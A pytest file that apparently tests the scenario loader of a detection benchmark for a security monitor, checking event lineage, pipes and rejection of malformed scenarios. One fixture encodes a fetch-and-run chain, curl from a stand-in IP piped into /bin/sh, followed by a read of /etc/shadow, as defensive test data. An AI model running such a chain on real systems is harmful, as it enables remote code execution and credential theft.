"""The scenario language of `make detection-quality` (benchmarks/scenario_events.py).

GIVEN the scenario files in the repository and small hand-written scenarios, WHEN they are loaded,
THEN every scenario builds into normalized events with the lineage, stdio and kinds it describes,
and a malformed scenario is refused with a message naming it.
"""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "benchmarks"))

from scenario_events import HERE, TACTICS, ScenarioError, build, load

from vigil import events as ev


def test_the_repository_scenarios_load_with_known_tactics() -> None:
    attacks = load(HERE / "attacks.toml")
    benign = load(HERE / "benign_admin.toml", need_tactic=False)
    assert len(attacks) >= 100 and len(benign) >= 50
    assert {a.tactic for a in attacks} <= set(TACTICS)
    assert all(a.source for a in attacks), "every attack scenario says where the technique came from"


def test_exec_in_a_context_gets_the_context_lineage_and_stdio() -> None:
    sc = build({"id": "x", "tactic": "execution", "context": "web", "events": [{"exec": "/usr/bin/id"}]})
    (e,) = sc.events
    assert isinstance(e, ev.ProcessActivity) and e.kind == "process_exec"
    assert e.process.args == ["id"]
    assert [a.file.name for a in e.process.lineage][:2] == ["sh", "php-fpm8.2"]
    assert e.process.user.uid == 33


def test_parent_prev_chains_execs_and_pipes_carry_their_inode() -> None:
    sc = build(
        {
            "id": "x",
            "tactic": "execution",
            "events": [
                {"exec": "/usr/bin/curl -s http://198.51.100.9/x", "stdout": "pipe:42"},
                {"exec": "/bin/sh", "parent": "prev", "stdin": "pipe:42"},
                {"open": "/etc/shadow"},
            ],
        }
    )
    first, second, third = sc.events
    assert isinstance(second, ev.ProcessActivity) and isinstance(first, ev.ProcessActivity)
    assert second.process.lineage[0].pid == first.process.pid
    assert second.process.stdin == ev.Stdio(type="pipe", path="pipe:[42]")
    assert isinstance(third, ev.FileSystemActivity) and third.kind == "file_open_sensitive"
    assert third.process.pid == second.process.pid


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        ({"id": "a", "tactic": "nope", "events": [{"exec": "/bin/true"}]}, "tactic"),
        ({"id": "b", "tactic": "impact", "events": []}, "events"),
        ({"id": "c", "tactic": "impact", "events": [{"teleport": 1}]}, "unknown event"),
        ({"id": "d", "tactic": "impact", "context": "moon", "events": [{"exec": "/bin/true"}]}, "context"),
        ({"id": "e", "tactic": "impact", "events": [{"open": "/etc/shadow"}]}, "no 'by'"),
        (
            {"id": "f", "tactic": "impact", "events": [{"exec": "/bin/true", "stdin": "carrier-pigeon"}]},
            "stdio",
        ),
    ],
)
def test_a_malformed_scenario_is_refused_by_name(raw: dict[str, object], message: str) -> None:
    with pytest.raises(ScenarioError, match=message) as err:
        build(raw)
    assert str(raw["id"]) in str(err.value)
